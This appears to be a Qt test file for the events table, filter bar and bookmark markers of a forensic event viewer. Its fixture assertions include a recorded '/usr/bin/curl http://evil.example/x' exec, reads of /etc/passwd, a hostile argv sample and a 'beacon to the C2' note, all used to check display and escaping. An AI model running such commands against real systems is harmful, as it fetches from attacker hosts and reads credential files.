// SPDX-License-Identifier: GPL-3.0-or-later
// The events table: EventTableModel under QAbstractItemModelTester on the fixture case (every event once, pages
// loaded on demand behind a placeholder, filters and new generations), the display-filter bar (inline errors with
// the column, apply on Enter, history kept), the Events page's linking with the shared selection, and the count in
// the background (an estimate until it ends, stopped and taken up again from the page), and bookmarks and notes
// shown beside their objects in the events table and the process tree (NotesFeed, markdecoration.h). Offscreen.
#include "bytetext.h"
#include "casemarks.h"
#include "displayfilterbar.h"
#include "eventspage.h"
#include "guifixture.h"
#include "markactions.h"
#include "processtreemodel.h"
#include "processtreepage.h"

#include <QAbstractItemModelTester>
#include <QColor>
#include <QComboBox>
#include <QLineEdit>
#include <QLocale>
#include <QSettings>
#include <QSignalSpy>
#include <QTableView>
#include <QTemporaryDir>
#include <QTest>
#include <QToolButton>

using namespace Qt::StringLiterals;
using namespace Deck;

class TestEventsPage : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void modelUnderTester();
    void filterBar();
    void pageFollowsAndSetsTheSelection();
    void countStopsAndGoesOn();
    void noteBesideAProcess();
    void blankKeepsTheMarkersPlace();
    void timesLineUpBesideMarks();

private:
    qint64 scalar(const QString &sql);
    static QString cell(const Models::EventTableModel &model, int row, Models::EventColumn column);

    QTemporaryDir m_dir;
    TestSupport::GuiCase m_case;
};

void TestEventsPage::initTestCase()
{
    QVERIFY(m_dir.isValid());
    QCoreApplication::setOrganizationName(u"FlightRecorderTests"_s);
    QSettings::setPath(QSettings::NativeFormat, QSettings::UserScope, m_dir.filePath(u"settings"_s));
    m_case = TestSupport::buildGuiCase(m_dir.path(), 6000);
    QVERIFY2(m_case.error.isEmpty(), qPrintable(m_case.error));
}

qint64 TestEventsPage::scalar(const QString &sql)
{
    auto db = Core::Database::open(m_case.location);
    if (!db)
        return -1;
    auto value = (*db)->scalar(sql);
    return value ? value->toLongLong() : -1;
}

QString TestEventsPage::cell(const Models::EventTableModel &model, int row, Models::EventColumn column)
{
    return model.data(model.index(row, int(column))).toString();
}

void TestEventsPage::modelUnderTester()
{
    Models::CaseSession session;
    QSignalSpy opened(&session, &Models::CaseSession::opened);
    session.open(m_case.location);
    QVERIFY(opened.wait(10000));
    auto walker = session.openWorker();
    Models::EventTableModel model;
    QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);

    const qint64 total = scalar(u"SELECT (SELECT count(*) FROM process_events) + (SELECT count(*) FROM file_events) "
                                u"+ (SELECT count(*) FROM net_events) + (SELECT count(*) FROM state_changes) "
                                u"+ (SELECT count(*) FROM host_events) + (SELECT count(*) FROM losses)"_s);
    QVERIFY2(total > 2 * Models::EventTableModel::kFirstSlice, "the fixture is big enough for several slices");
    model.show(&session.worker(), walker.get(), {});
    QTRY_VERIFY_WITH_TIMEOUT(model.isComplete(), 20000);
    QCOMPARE(model.rowCount(), total);

    // A row of a page not yet read is a placeholder until its page lands (here data() does not wait for it); then it
    // is the event itself.
    model.setMissWaitMs(0);
    const int last = model.rowCount() - 1;
    QVERIFY(!model.loadedRow(last));
    QCOMPARE(cell(model, last, Models::EventColumn::Time), u"loading…"_s);
    QSignalSpy changed(&model, &QAbstractItemModel::dataChanged);
    QTRY_VERIFY(model.loadedRow(last));
    QVERIFY(std::any_of(changed.begin(), changed.end(), [&](const QList<QVariant> &signal) {
        return signal.at(0).toModelIndex().row() <= last && signal.at(1).toModelIndex().row() == last;
    }));
    QVERIFY(cell(model, last, Models::EventColumn::Time).startsWith(u"20"_s));
    // Waiting for a missing page (what the view's data() calls do by default): the row itself at once, in one paint,
    // and no dataChanged for its page afterwards (that would be a second paint).
    model.setMissWaitMs(10000);
    const int unread = last / 3;
    QVERIFY(!model.loadedRow(unread));
    changed.clear();
    QSignalSpy loaded(&model, &Models::EventTableModel::pageLoaded);
    QVERIFY(cell(model, unread, Models::EventColumn::Time).startsWith(u"20"_s));
    QVERIFY(model.loadedRow(unread));
    // Told after the paint, for what follows a loaded page (other pages, prefetched, may land meanwhile).
    const int pageStart = unread / Models::EventTableModel::kPageRows * Models::EventTableModel::kPageRows;
    QTRY_VERIFY(std::any_of(loaded.begin(), loaded.end(),
                            [&](const QList<QVariant> &signal) { return signal.at(0).toInt() == pageStart; }));
    QTest::qWait(100);
    QVERIFY(std::none_of(changed.begin(), changed.end(), [&](const QList<QVariant> &signal) {
        return signal.at(0).toModelIndex().row() <= unread && signal.at(1).toModelIndex().row() >= unread;
    }));
    // Rows are in time order across pages and tables.
    QString previous;
    for (int row : {0, 1, 255, 256, 257, 1000, last / 2, last - 1, last}) {
        cell(model, row, Models::EventColumn::Time);
        QTRY_VERIFY(model.loadedRow(row));
    }
    for (int row = 0; row <= last; row += 97) {
        cell(model, row, Models::EventColumn::Time);
        QTRY_VERIFY(model.loadedRow(row));
        const QString time = cell(model, row, Models::EventColumn::Time);
        QVERIFY2(time >= previous, qPrintable(time + u" after "_s + previous));
        previous = time;
    }

    // A filter is a new generation: the known rows, with what the table shows of them.
    Core::EventScope scope;
    scope.filter = *Core::parseDisplayFilter(u"file.path == \"/etc/passwd\" and host == alpha"_s);
    model.show(&session.worker(), walker.get(), scope);
    QTRY_VERIFY(model.isComplete());
    QCOMPARE(model.rowCount(), 2);
    cell(model, 0, Models::EventColumn::Time);
    QTRY_VERIFY(model.loadedRow(1));
    QCOMPARE(cell(model, 0, Models::EventColumn::Host), u"alpha"_s);
    QCOMPARE(cell(model, 0, Models::EventColumn::Process), u"curl (300)"_s);
    QCOMPARE(cell(model, 0, Models::EventColumn::User), u"1000"_s);
    QCOMPARE(cell(model, 0, Models::EventColumn::Kind), u"file open"_s);
    QCOMPARE(cell(model, 0, Models::EventColumn::Object), u"/etc/passwd"_s);
    QCOMPARE(cell(model, 1, Models::EventColumn::Process), u"python3 (400)"_s);
    QCOMPARE(model.loadedRow(1)->path, QByteArray("/etc/passwd"));

    // An exec shows the argv it ran with (the hostile one escaped, not cut at its control bytes); an exit its code.
    scope.filter = *Core::parseDisplayFilter(u"host == alpha and (proc.pid == 301 or proc.pid == 300) and "
                                             u"(event.kind == proc.exec or event.kind == proc.exit)"_s);
    model.show(&session.worker(), walker.get(), scope);
    QTRY_VERIFY(model.isComplete());
    QCOMPARE(model.rowCount(), 3);
    cell(model, 0, Models::EventColumn::Time);
    QTRY_VERIFY(model.loadedRow(2));
    QCOMPARE(cell(model, 0, Models::EventColumn::Detail), u"/usr/bin/curl http://evil.example/x"_s);
    QCOMPARE(cell(model, 1, Models::EventColumn::Detail),
             Core::displayArgv(TestSupport::QueryScenario::hostileArgv().join('\0')));
    QCOMPARE(cell(model, 2, Models::EventColumn::Kind), u"proc.exit"_s);
    QCOMPARE(cell(model, 2, Models::EventColumn::Detail), u"code 0"_s);

    // Two generations in a row: only the last one's rows arrive.
    scope.filter = *Core::parseDisplayFilter(u"net.rport == 443"_s);
    model.show(&session.worker(), walker.get(), scope);
    scope.filter = *Core::parseDisplayFilter(u"event.kind == rec.loss"_s);
    model.show(&session.worker(), walker.get(), scope);
    QTRY_VERIFY(model.isComplete());
    QTest::qWait(200);
    QCOMPARE(model.rowCount(), 1);
    cell(model, 0, Models::EventColumn::Time);
    QTRY_VERIFY(model.loadedRow(0));
    QCOMPARE(cell(model, 0, Models::EventColumn::Object), u"proc.ebpf"_s);
    QCOMPARE(cell(model, 0, Models::EventColumn::Detail), u"17 lost: ring buffer full"_s);
    QVERIFY(model.loadedRow(0)->isLoss);

    model.clear();
    QCOMPARE(model.rowCount(), 0);
}

void TestEventsPage::filterBar()
{
    QSettings().remove(u"events/filterHistory"_s);
    Gui::DisplayFilterBar bar;
    QSignalSpy applied(&bar, &Gui::DisplayFilterBar::applied);
    auto *line = bar.findChild<QLineEdit *>();
    QVERIFY(line);

    // Typed text is checked at once; Enter does not apply an invalid filter.
    line->setFocus();
    QTest::keyClicks(line, u"proc.exe =="_s);
    QCOMPARE(bar.errorText(), u"Invalid filter — column 12: expected a value after =="_s);
    QTest::keyClick(line, Qt::Key_Return);
    QCOMPARE(applied.count(), 0);

    QTest::keyClicks(line, u" \"/usr/bin/curl\""_s);
    QCOMPARE(bar.errorText(), QString());
    QTest::keyClick(line, Qt::Key_Return);
    QCOMPARE(applied.count(), 1);
    QCOMPARE(applied.at(0).at(1).toString(), u"proc.exe == \"/usr/bin/curl\""_s);
    QCOMPARE(applied.at(0).at(0).value<Core::FilterNode>().field, u"proc.exe"_s);

    QTest::qWait(1);
    bar.apply(u"user == 0"_s);
    bar.apply(u"proc.exe == \"/usr/bin/curl\""_s);
    QCOMPARE(bar.history(), (QStringList{u"proc.exe == \"/usr/bin/curl\""_s, u"user == 0"_s}));
    QCOMPARE(QSettings().value(u"events/filterHistory"_s).toStringList(), bar.history());
    Gui::DisplayFilterBar reopened;
    QCOMPARE(reopened.history(), bar.history());

    // The empty filter is valid (every event) and is not remembered.
    bar.apply(QString());
    QCOMPARE(applied.count(), 4);
    QCOMPARE(bar.history().size(), 2);
    bar.apply(u"host == \"a"_s);
    QCOMPARE(applied.count(), 4);
    QVERIFY2(bar.errorText().contains(u"column 9: the string has no closing"_s), qPrintable(bar.errorText()));
}

void TestEventsPage::pageFollowsAndSetsTheSelection()
{
    Models::CaseSession session;
    Gui::EventsPage page(session);
    page.resize(1200, 600);
    page.show();
    QSignalSpy opened(&session, &Models::CaseSession::opened);
    session.open(m_case.location);
    QVERIFY(opened.wait(10000));
    auto &model = page.model();
    QTRY_VERIFY_WITH_TIMEOUT(model.isComplete() && model.rowCount() > 6000, 20000);

    page.filterBar()->apply(u"net.rport == 443 and (host == alpha or host == beta)"_s);
    QTRY_VERIFY(model.isComplete() && model.rowCount() == 2);
    QCOMPARE(page.statusText(), u"2 events"_s);
    QTRY_VERIFY(model.loadedRow(1));

    // Selecting beta's connection selects its process, host and endpoint; the table does not narrow to beta.
    auto &selection = session.selection();
    page.view()->setCurrentIndex(model.index(1, 0));
    const qint64 beta = scalar(u"SELECT id FROM hosts WHERE hostname = 'beta'"_s);
    const qint64 wget = scalar(u"SELECT id FROM processes WHERE comm = 'wget'"_s);
    QCOMPARE(selection.process(), std::optional<qint64>(wget));
    QCOMPARE(selection.host(), std::optional<qint64>(beta));
    QCOMPARE(selection.endpoint(), std::optional<Models::Endpoint>(Models::Endpoint{u"203.0.113.5"_s, 443}));
    // Its context menu bookmarks the connection event itself.
    auto *marks = page.view()->findChild<Gui::MarkActions *>();
    QVERIFY(marks);
    marks->bookmark(model.index(1, 0));
    const qint64 netEvent = model.loadedRow(1)->key.id;
    QTRY_COMPARE(
        scalar(u"SELECT count(*) FROM bookmarks WHERE object_type = 'net_event' AND object_id = %1"_s.arg(netEvent)),
        1);
    // The bookmark shows beside the row (its own marker, and the tool tip of the first column says so); a note on it
    // adds the note's marker and text.
    const auto decoration
        = [&](int row) { return model.data(model.index(row, 0), Qt::DecorationRole).value<QImage>(); };
    QTRY_COMPARE(decoration(1), Models::markImage(true, false));
    QCOMPARE(model.data(model.index(1, 0), Qt::ToolTipRole).toString(), u"Bookmarked"_s);
    Models::CaseMarks::of(session).addNote(*model.loadedRow(1)->object, u"beacon to the C2"_s);
    QTRY_COMPARE(model.data(model.index(1, 0), Qt::ToolTipRole).toString(), u"Bookmarked\nNote: beacon to the C2"_s);
    QCOMPARE(decoration(1), Models::markImage(true, true));
    // An unmarked row keeps the marker's place (a blank picture of its size): the times line up.
    QCOMPARE(decoration(0), Models::markDecoration({}).value<QImage>());
    QVERIFY(!model.data(model.index(0, 1), Qt::DecorationRole).isValid());
    QVERIFY(!model.data(model.index(0, 0), Qt::ToolTipRole).isValid());
    // The bookmark removed (in any view): the note's marker alone.
    const qint64 bookmarkId
        = scalar(u"SELECT id FROM bookmarks WHERE object_type = 'net_event' AND object_id = %1"_s.arg(netEvent));
    Models::CaseMarks::of(session).removeBookmark(bookmarkId);
    QTRY_COMPARE(decoration(1), Models::markImage(false, true));
    QCOMPARE(model.data(model.index(1, 0), Qt::ToolTipRole).toString(), u"Note: beacon to the C2"_s);
    QVERIFY(Models::markImage(true, false) != Models::markImage(false, true));
    QTest::qWait(100);
    QCOMPARE(model.rowCount(), 2);
    // Nor does a time range chosen later: the host this page follows is one selected elsewhere.
    selection.setTimeRange({TestSupport::QueryScenario::at(0), TestSupport::QueryScenario::at(90000)});
    QTRY_VERIFY(model.isComplete() && model.rowCount() == 2);
    selection.setTimeRange({});
    QTRY_VERIFY(model.isComplete() && model.rowCount() == 2);

    // A host or time range selected elsewhere narrows the table, and the button widens it again.
    const qint64 alpha = scalar(u"SELECT id FROM hosts WHERE hostname = 'alpha'"_s);
    selection.setHost(alpha);
    QTRY_VERIFY(model.isComplete() && model.rowCount() == 1);
    selection.setHost(std::nullopt);
    QTRY_VERIFY(model.isComplete() && model.rowCount() == 2);
    selection.setTimeRange({TestSupport::QueryScenario::at(81), std::nullopt});
    QTRY_VERIFY(model.isComplete() && model.rowCount() == 1);
    auto *widen = page.findChild<QToolButton *>(u"widenScope"_s);
    QVERIFY(widen && widen->isVisible());
    widen->click();
    QVERIFY(!selection.timeRange().from);
    QTRY_VERIFY(model.isComplete() && model.rowCount() == 2);

    // A filter that matches nothing says so.
    page.filterBar()->apply(u"proc.comm == \"no such program\""_s);
    QTRY_COMPARE(page.statusText(), u"0 events"_s);

    session.close();
    QCOMPARE(model.rowCount(), 0);
}

void TestEventsPage::countStopsAndGoesOn()
{
    const qint64 total = scalar(u"SELECT (SELECT count(*) FROM process_events) + (SELECT count(*) FROM file_events) "
                                u"+ (SELECT count(*) FROM net_events) + (SELECT count(*) FROM state_changes) "
                                u"+ (SELECT count(*) FROM host_events) + (SELECT count(*) FROM losses)"_s);
    Models::CaseSession session;
    Gui::EventsPage page(session);
    page.resize(1200, 600);
    page.show();
    auto &model = page.model();
    QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
    model.setSliceRows(Models::EventTableModel::kPageRows); // many slices, so that the count can be stopped midway
    QSignalSpy counted(&model, &Models::EventTableModel::countChanged);
    session.open(m_case.location);
    QTRY_VERIFY_WITH_TIMEOUT(model.rowCount() > 0, 10000);
    auto *button = page.countButton();
    QVERIFY(button->isVisible());
    QCOMPARE(button->text(), u"Stop counting"_s);
    button->click();
    QVERIFY(!model.isCounting());
    // The slice in flight lands; then the count stays where it is, and the rows counted can be read.
    QTest::qWait(500);
    const int stoppedAt = model.rowCount();
    QTest::qWait(500);
    QCOMPARE(model.rowCount(), stoppedAt);
    QVERIFY2(stoppedAt < total, qPrintable(u"%1 of %2"_s.arg(stoppedAt).arg(total)));
    QVERIFY(!model.isComplete());
    model.data(model.index(stoppedAt - 1, 0));
    QTRY_VERIFY(model.loadedRow(stoppedAt - 1));
    // The estimate: from the time walked over the scope's span, at least the rows counted.
    QTRY_VERIFY(model.estimatedRows() > stoppedAt);
    const QString about = QLocale().toString(model.estimatedRows());
    QTRY_COMPARE(page.statusText(),
                 u"%1 events counted of about %2; counting stopped"_s.arg(QLocale().toString(stoppedAt), about));
    QCOMPARE(button->text(), u"Count the rest"_s);

    button->click();
    QTRY_VERIFY_WITH_TIMEOUT(model.isComplete(), 20000);
    QCOMPARE(model.rowCount(), total);
    QCOMPARE(model.estimatedRows(), total);
    QCOMPARE(page.statusText(), u"%1 events"_s.arg(QLocale().toString(total)));
    QVERIFY(!button->isVisible());

    // A new filter drops the count in progress and starts its own; closing the case ends it.
    page.filterBar()->apply(u"host == alpha"_s);
    QTRY_VERIFY(model.rowCount() > 0);
    session.close();
    QCOMPARE(model.rowCount(), 0);
    QVERIFY(model.isComplete());
    QVERIFY(!button->isVisible());
}

void TestEventsPage::noteBesideAProcess()
{
    Models::CaseSession session;
    Gui::ProcessTreePage page(session);
    QSignalSpy opened(&session, &Models::CaseSession::opened);
    session.open(m_case.location);
    QVERIFY(opened.wait(10000));
    auto *model = page.model();
    QAbstractItemModelTester tester(model, QAbstractItemModelTester::FailureReportingMode::QtTest);
    const qint64 alpha = scalar(u"SELECT id FROM hosts WHERE hostname = 'alpha'"_s);
    model->setFilter({alpha, std::nullopt, {}, {}});
    QTRY_VERIFY(model->rowCount() > 0 && model->pending() == 0);
    const QModelIndex first = model->index(0, 0);
    const qint64 process = first.data(Models::ProcessTreeModel::ProcessIdRole).toLongLong();
    QVERIFY(process > 0);
    QCOMPARE(first.data(Qt::DecorationRole).value<QImage>(), Models::markDecoration({}).value<QImage>());
    const auto decoration = [&] { return model->index(0, 0).data(Qt::DecorationRole).value<QImage>(); };
    const auto toolTip = [&] { return model->index(0, 0).data(Qt::ToolTipRole).toString(); };
    Models::CaseMarks::of(session).addNote({Core::ObjectType::Process, process}, u"first seen here"_s);
    QTRY_COMPARE(decoration(), Models::markImage(false, true));
    QVERIFY2(toolTip().startsWith(u"Note: first seen here\n"_s), qPrintable(toolTip()));
    QVERIFY(!model->index(0, 1).data(Qt::DecorationRole).isValid());
    // A bookmark as well: both markers, and the tool tip says so first.
    Models::CaseMarks::of(session).bookmark({Core::ObjectType::Process, process});
    QTRY_COMPARE(decoration(), Models::markImage(true, true));
    QVERIFY2(toolTip().startsWith(u"Bookmarked\nNote: first seen here\n"_s), qPrintable(toolTip()));
    // The note removed: the bookmark's marker alone.
    const qint64 noteId
        = scalar(u"SELECT id FROM notes WHERE object_type = 'process' AND object_id = %1"_s.arg(process));
    Models::CaseMarks::of(session).removeNote(noteId);
    QTRY_COMPARE(decoration(), Models::markImage(true, false));
    QVERIFY2(toolTip().startsWith(u"Bookmarked\n\n"_s), qPrintable(toolTip()));
}

void TestEventsPage::blankKeepsTheMarkersPlace()
{
    const QImage blank = Models::markDecoration({}).value<QImage>();
    QVERIFY(!blank.isNull());
    for (const auto &[bookmarked, noted] : {std::pair{true, false}, {false, true}, {true, true}})
        QCOMPARE(blank.size(), Models::markImage(bookmarked, noted).size());
    QCOMPARE(Models::markWidth(), blank.width() + 6);
    for (int y = 0; y < blank.height(); ++y) {
        for (int x = 0; x < blank.width(); ++x)
            QCOMPARE(qAlpha(blank.pixel(x, y)), 0);
    }
}

// The time of a row with a bookmark or a note starts where the time of a row without one does (the marker in a
// place that every row keeps), in the pixels the page paints.
void TestEventsPage::timesLineUpBesideMarks()
{
    Models::CaseSession session;
    Gui::EventsPage page(session);
    page.resize(1200, 600);
    page.show();
    QVERIFY(QTest::qWaitForWindowExposed(&page));
    QSignalSpy opened(&session, &Models::CaseSession::opened);
    session.open(m_case.location);
    QVERIFY(opened.wait(10000));
    auto &model = page.model();
    QTableView *view = page.view();
    QTRY_VERIFY_WITH_TIMEOUT(model.rowCount() > 40 && model.loadedRow(0), 20000);
    // Three rows of file events (each its own object): one bookmarked, one noted, one without marks.
    QList<int> files;
    for (int row = 0; row < 40 && files.size() < 3; ++row) {
        const Models::EventRowView *event = model.loadedRow(row);
        QVERIFY(event);
        if (event->object && event->object->type == Core::ObjectType::FileEvent
            && view->rowViewportPosition(row) + view->rowHeight(row) <= view->viewport()->height())
            files << row;
    }
    QCOMPARE(files.size(), 3);
    auto &marks = Models::CaseMarks::of(session);
    QCOMPARE(marks.bookmark(*model.loadedRow(files[0])->object).result(), QString());
    QCOMPARE(marks.addNote(*model.loadedRow(files[1])->object, u"seen"_s).result(), QString());
    const auto decoration = [&](int row) { return model.index(row, 0).data(Qt::DecorationRole).value<QImage>(); };
    QTRY_COMPARE(decoration(files[0]), Models::markImage(true, false));
    QTRY_COMPARE(decoration(files[1]), Models::markImage(false, true));

    QImage shot(view->viewport()->size(), QImage::Format_ARGB32_Premultiplied);
    view->viewport()->render(&shot);
    // The first x at or after `from` where a row's time cell has ink (a pixel unlike the cell's empty right end).
    const int gutter = Models::markWidth() - 3; // the picture and the margin before it; the text's margin follows
    const auto firstInk = [&](int row, int from) {
        const int top = view->rowViewportPosition(row) + 2, bottom = top + view->rowHeight(row) - 4;
        const QRgb empty = shot.pixel(view->columnWidth(0) - 2, top + 1);
        for (int x = from; x < view->columnWidth(0); ++x) {
            for (int y = top; y < bottom; ++y) {
                if (shot.pixel(x, y) != empty)
                    return x;
            }
        }
        return -1;
    };
    const int unmarkedText = firstInk(files[2], gutter);
    QVERIFY(unmarkedText > gutter); // after the blank place, not pushed left into it
    QCOMPARE(firstInk(files[2], 0), unmarkedText); // nothing in the place of the marker
    QVERIFY(firstInk(files[0], 0) < gutter); // the bookmark's ribbon
    QVERIFY(firstInk(files[1], 0) < gutter); // the note's square
    QCOMPARE(firstInk(files[0], gutter), unmarkedText);
    QCOMPARE(firstInk(files[1], gutter), unmarkedText);
}

QTEST_MAIN(TestEventsPage)
#include "tst_eventspage.moc"
